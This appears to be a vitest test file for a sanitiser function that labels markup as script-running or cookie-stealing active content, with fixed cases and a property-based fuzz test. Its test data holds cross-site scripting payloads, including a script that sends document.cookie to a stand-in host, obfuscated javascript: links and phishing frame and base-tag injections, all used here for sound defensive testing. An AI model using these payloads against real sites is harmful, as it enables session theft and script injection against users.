import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readActiveContent } from './active-content.ts'

describe('readActiveContent', () => {
  test.each([
    [
      'a script that reads cookies',
      '<script>new Image().src="//x.org?"+document.cookie</script>',
      'steals',
    ],
    ['a handler without quotation marks', '<img src=x onerror=alert(1)>', 'runs'],
    ['a handler after a slash', '<svg/onload=alert(1)>', 'runs'],
    ['a scheme with a tab in it', '<a href="java\tscript:alert(1)">x</a>', 'runs'],
    ['a scheme in character references', '<a href="&#106;avascript:alert(1)">x</a>', 'runs'],
    ['a link of Markdown', '[x](javascript:alert(1))', 'runs'],
    ['a page in a URL', '<iframe src="data:text/html,<p>x"></iframe>', 'runs'],
    ['a foreign frame', '<iframe src="//login.phish.org/"></iframe>', 'runs'],
    ['another base', '<base href="https://phish.org/">', 'runs'],
  ])('markup with %s is active content', (_, text, expected) => {
    expect(readActiveContent(text)).toBe(expected)
  })

  test.each([
    ['structured data', '<script type="application/ld+json">{}</script>'],
    ['a frame of the same site', '<iframe src="/map.html"></iframe>'],
    ['a word that only looks like a handler', '<div once="1" online=true>'],
    ['a comparison', 'if a < b then c > d, online = true'],
    ['code', '`<script>alert(1)</script>`'],
    ['a picture in a URL', '<img src="data:image/png;base64,AAAA">'],
  ])('markup with %s is no active content', (_, text) => {
    expect(readActiveContent(text)).toBeNull()
  })

  test('readActiveContent reads any text without an error', () => {
    fc.assert(
      fc.property(
        fc.string({
          maxLength: 400,
          unit: fc.constantFrom(...Array.from('<>"\'=/ scriptonavh:()[]`&#;')),
        }),
        (text) => ['runs', 'steals', null].includes(readActiveContent(text)),
      ),
    )
  })
})
